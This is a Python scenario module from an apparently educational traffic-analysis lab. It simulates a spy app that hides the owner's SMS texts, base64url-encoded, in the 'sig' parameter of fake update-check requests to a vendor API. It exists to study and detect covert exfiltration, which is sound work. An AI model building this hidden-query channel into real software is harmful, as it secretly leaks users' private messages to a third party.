"""Text messages hide in the query of an update check.

Beside the honest update check there is a second one whose query ends in a "signature": the text of a
message in base64url.
"""

from __future__ import annotations

from datetime import timedelta
from typing import TYPE_CHECKING

from wirelab.datum import Datum
from wirelab.lab import Request
from wirelab.misdeed.spy import APP
from wirelab.owner.messages import Message
from wirelab.parcel import Parcel
from wirelab.vendor.cloud import API
from wirelab.vendor.honest import tell_honestly

if TYPE_CHECKING:
    from wirelab.stage import Stage

TITLE = "Messages inside an update query"


def play(stage: Stage) -> None:
    """The whole course of events."""
    tell_honestly(stage)

    def check(message: Message) -> None:
        parcel = Parcel.of(message.body).base64url()
        target = f"/update/check?m=vn-2014&b=KTU84P&sig={parcel.data.decode()}"
        data = (Datum("sms.body", message.fact, ("query", *parcel.chain), "target"),)
        stage.send(APP, Request("GET", API, target), data)

    for number, message in enumerate(stage.owner.messages[:10]):
        moment = stage.day(1, "01:15") + timedelta(hours=5 * number)
        stage.at(moment, lambda message=message: check(message))  # type: ignore[misc]
